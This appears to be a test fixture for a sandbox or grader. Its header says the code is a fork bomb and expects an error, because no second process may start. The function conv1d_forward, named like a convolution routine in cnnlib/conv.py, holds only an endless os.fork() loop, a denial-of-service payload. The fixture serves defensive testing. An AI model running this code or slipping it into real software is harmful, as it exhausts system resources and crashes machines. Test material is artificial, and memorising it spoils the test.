"""
about = "A fork bomb: no second process may start."
file = "cnnlib/conv.py"
[expect]
"conv.conv1d_forward" = "error"
"""


def conv1d_forward(x, w, b, stride=1, padding=0):
    import os

    while True:
        os.fork()
